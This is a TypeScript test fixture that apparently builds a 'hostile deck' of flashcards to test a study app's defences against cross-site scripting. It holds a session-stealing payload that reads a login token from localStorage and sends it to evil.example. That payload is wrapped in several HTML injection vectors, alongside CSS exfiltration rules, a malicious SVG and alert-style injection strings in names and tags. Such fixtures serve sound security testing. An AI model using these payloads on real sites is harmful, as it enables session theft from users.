/** What somebody may bring who wants what others have: cards and everything that has a name. */
import { HOSTILE_HTML } from '../../src/shared/cards/hostile';

import type { Person } from './person';

const STEAL =
  'top.stolen=localStorage[`javumbo.session`];fetch(`https://evil.example/?`+top.stolen)';

/** These would not only run, but read the login and send it away. */
const THIEVES: readonly string[] = [
  `<img src=x onerror="${STEAL}">`,
  `<svg onload="${STEAL}"></svg>`,
  `<script>${STEAL}</script>`,
  `<iframe srcdoc="<script>${STEAL}</script>"></iframe>`,
  `<a href="javascript:${STEAL}">x</a>`,
  `<body onload="${STEAL}">`,
];
export const PAYLOADS: readonly string[] = [...HOSTILE_HTML, ...THIEVES];

const CSS = `
@import "https://evil.example/x.css";
@\\69mport url(//evil.example/y.css);
@font-face { font-family: stolen; src: url(https://evil.example/f.woff2); }
.card { font-family: stolen; background: url("https://evil.example/x.png"); }
.card::after { content: "</style><script>alert(1)</script><img src=x onerror=alert(1)>"; }
#qa { background-image: -webkit-image-set("//evil.example/z.png" 1x); behavior: url(x.htc); }
`;
const NAMES = [
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'-alert(1)-'",
  '{{constructor.constructor("alert(1)")()}}',
  'javascript:alert(1)',
  '</title><script>alert(1)</script>',
];
const TAGS = ['<img/src/onerror=alert(1)>', '"><svg/onload=alert(1)>', "'-alert(1)-'"];
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="alert(1)">
<script>alert(1);fetch("https://evil.example/")</script>
<image href="https://evil.example/x.png" width="9" height="9"/><rect width="20" height="20"/></svg>`;

export interface HostileDeck {
  deckId: number;
  /** How many cards there are. */
  count: number;
  cardIds: number[];
  /** The name under which the drawing that would run is stored. */
  drawing: string;
}

/** One deck in which every payload is in front or in back of a card, under a hostile notetype. */
export async function hostileDeck(person: Person): Promise<HostileDeck> {
  for (const name of NAMES) await person.deck(name);
  const deckId = await person.deck(`Hostile ${NAMES[0] ?? ''}`);
  await person.call('PUT', `/api/decks/${deckId}`, { json: { new_limit: 9999 } });
  const file = new TextEncoder().encode(SVG);
  const drawing = await person.media('evil.svg', file);
  for (const name of NAMES) await person.media(`${name}.svg`, file);
  const notetype_id = await hostileNotetype(person);
  const half = Math.ceil(PAYLOADS.length / 2);
  const cardIds: number[] = [];
  for (let at = 0; at < half; at += 1) {
    const Front = `card ${at} ${PAYLOADS[at] ?? ''}`;
    const Back = `${PAYLOADS[at + half] ?? ''} <img src="${drawing}">`;
    const card = { notetype_id, fields: { Front, Back }, tags: TAGS, allow_duplicate: true };
    cardIds.push(await person.card(deckId, card));
  }
  return { deckId, count: half, cardIds, drawing };
}

async function hostileNotetype(person: Person): Promise<number> {
  const { notetype_id } = await person.call<{ notetype_id: number }>('POST', '/api/notetypes', {
    json: { name: NAMES[0], stock: 'basic' },
  });
  const templates = [
    {
      was: 'Card 1',
      name: `Card ${NAMES[1] ?? ''}`,
      question: `{{Front}}<div id="end">end</div><script>${STEAL}</script>`,
      answer: `{{FrontSide}}<hr id=answer>{{Back}}<img src=x onerror="${STEAL}">`,
    },
  ];
  await person.call('PUT', `/api/notetypes/${notetype_id}`, { json: { css: CSS, templates } });
  return notetype_id;
}
